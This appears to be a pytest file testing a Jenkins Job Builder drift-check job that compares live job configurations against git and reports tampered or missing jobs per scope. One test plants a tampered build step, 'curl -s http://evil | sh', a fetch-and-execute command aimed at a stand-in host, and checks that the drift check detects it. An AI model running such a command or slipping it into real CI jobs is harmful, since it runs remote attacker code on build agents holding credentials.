"""The drift-check job in the root scope: generated from the org file, pushed, and its stored shell
step run as Jenkins runs it (``sh -xe`` in a checkout of the jobs repository, the updater's JJB ini
bound to JJB_CONF). It fails, listing the drifted items per scope, when the server differs from git.

Its trigger is core's TimerTrigger (``<hudson.triggers.TimerTrigger><spec>``; core
src/main/java/hudson/triggers/TimerTrigger.java), JJB's ``timed`` trigger."""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET

import pytest
import yaml

from jjb_envdelivery.cli.main import main
from jjb_envdelivery.testing.emulator_faults import Fault

DRIFT_JOB = "delivery/drift-check"
VICTIM = "payments/billing-current-lint"



@pytest.fixture
def pushed(emu, conf, small, tmp_path):
    cache = str(tmp_path / "cache")
    for scope in ("root", "payments", "web"):
        assert main(["update", "--scope", scope, "--org-file", str(small / "delivery.yaml"), "--conf", str(conf),
                     "--cache-dir", cache]) == 0
    return emu


def test_the_job_is_generated_with_its_schedule_and_the_updater_credential(pushed, small):
    root = ET.fromstring(pushed.job_config(DRIFT_JOB).encode())
    assert root.findtext("triggers/hudson.triggers.TimerTrigger/spec") == "H H(0-5) * * *"
    assert root.findtext("assignedNode") == "jjb"  # where the updaters run: it holds their token
    assert root.findtext("scm/userRemoteConfigs/hudson.plugins.git.UserRemoteConfig/url") == \
        "https://git.example.com/jobs.git"
    binding = root.find(".//org.jenkinsci.plugins.credentialsbinding.impl.FileBinding")
    assert binding.findtext("credentialsId") == "jjb-ini" and binding.findtext("variable") == "JJB_CONF"
    command = root.findtext("builders/hudson.tasks.Shell/command")
    assert command == 'jjb-envdelivery drift-check --org-file delivery.yaml --conf "$JJB_CONF"'


def test_the_schedule_comes_from_the_org_file(emu, conf, small, tmp_path):
    org_file = small / "delivery.yaml"
    data = yaml.safe_load(org_file.read_text())
    data["updater"]["drift-check"] = "H 6 * * 1-5"
    org_file.write_text(yaml.safe_dump(data, sort_keys=False))
    out = tmp_path / "out"
    assert main(["render", str(small), "-o", str(out)]) == 0
    root = ET.parse(out / DRIFT_JOB / "config.xml").getroot()
    assert root.findtext("triggers/hudson.triggers.TimerTrigger/spec") == "H 6 * * 1-5"


def test_a_bad_schedule_names_the_field(small, tmp_path, capsys):
    org_file = small / "delivery.yaml"
    org_file.write_text(org_file.read_text().replace("  credential-id: jjb-ini\n",
                                                     "  credential-id: jjb-ini\n  drift-check: every night\n"))
    assert main(["render", str(small), "-o", str(tmp_path / "out")]) == 1
    err = capsys.readouterr().err
    assert "updater.drift-check" in err and "delivery.yaml:" in err


def test_the_job_passes_when_the_server_matches_git(pushed, agent, small):
    result = agent.run(DRIFT_JOB, small)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "root: matches git" in result.stdout and "payments: matches git" in result.stdout
    assert "drift: 0 of 3 scope(s)" in result.stdout
    assert not [r for r in pushed.request_log if r.write and r.path.endswith("config.xml")]


def test_the_job_fails_listing_the_drift_per_scope(pushed, agent, small, rest):
    config = pushed.job_config(VICTIM)
    rest.post(f"{pushed.url}job/payments/job/billing-current-lint/config.xml",
              data=config.replace("make test", "curl -s http://evil | sh"),
              headers={"Content-Type": "text/xml"}).raise_for_status()
    rest.post(f"{pushed.url}job/web-ui-upcoming-package/doDelete").raise_for_status()
    pushed.clear_log()
    result = agent.run(DRIFT_JOB, small)
    assert result.returncode == 1
    out = result.stdout
    assert "root: matches git" in out
    assert "payments: 1 item(s) differ from git" in out
    # The agent running the job has no record of the pushes (its own cache): it cannot tell who changed it.
    assert f"  change  job {VICTIM}: its live configuration differs from what git generates" in out
    assert "-      <command>curl -s http://evil | sh</command>" in out
    assert "web: 1 item(s) differ from git" in out and "  create  job web-ui-upcoming-package" in out
    assert "drift: 2 of 3 scope(s) differ or could not be compared: payments, web" in out
    assert not [r for r in pushed.request_log if r.write]  # it only reads


def test_drift_seen_from_the_updaters_agent_says_the_server_changed(pushed, conf, small, tmp_path, rest, capsys):
    config = pushed.job_config(VICTIM)
    rest.post(f"{pushed.url}job/payments/job/billing-current-lint/config.xml",
              data=config.replace("make test", "make test || true"),
              headers={"Content-Type": "text/xml"}).raise_for_status()
    code = main(["drift-check", "--org-file", str(small / "delivery.yaml"), "--conf", str(conf),
                 "--cache-dir", str(tmp_path / "cache")])  # the cache the updates above wrote
    out = capsys.readouterr().out
    assert code == 1
    assert f"  change  job {VICTIM}: drifted: changed on the server since this scope pushed it" in out


def test_a_fresh_agent_without_caches_reports_no_false_drift(pushed, conf, small, tmp_path, capsys):
    """Another agent has no record of the pushes: same meaning is not drift."""
    code = main(["drift-check", "--org-file", str(small / "delivery.yaml"), "--conf", str(conf),
                 "--cache-dir", str(tmp_path / "fresh-cache"), "--json"])
    reports = json.loads(capsys.readouterr().out)
    assert code == 0, reports
    assert [r["scope"] for r in reports] == ["root", "payments", "web"]
    assert all(r["clean"] and r["compared"] > 0 for r in reports)


def test_refused_credentials_fail_every_scope_with_one_line(pushed, conf, small, tmp_path, capsys):
    pushed.faults.faults.append(Fault("403", rate=1.0, pattern="GET /api/json"))
    code = main(["drift-check", "--org-file", str(small / "delivery.yaml"), "--conf", str(conf),
                 "--cache-dir", str(tmp_path / "cache")])
    out = capsys.readouterr().out
    assert code == 1
    assert out.count("NOT COMPARED: the server at") == 3 and "refused the credentials (403)" in out
